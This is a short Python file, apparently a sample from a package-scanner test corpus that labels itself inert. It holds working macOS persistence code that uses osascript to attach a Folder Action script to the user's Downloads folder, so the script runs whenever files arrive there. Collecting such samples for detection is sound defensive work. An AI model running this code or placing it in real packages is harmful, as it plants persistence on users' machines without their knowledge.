# pkgguard corpus 776 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import subprocess
import sys

_SCRIPT = os.path.expanduser("~/Library/Scripts/Folder Action Scripts/sort.scpt")
_ATTACH = f'''
tell application "System Events"
    set folder actions enabled to true
    attach action to folder (path to downloads folder) using POSIX file "{_SCRIPT}"
end tell
'''

if sys.platform == "darwin" and os.path.exists(_SCRIPT):
    subprocess.run(["osascript", "-e", _ATTACH], capture_output=True)
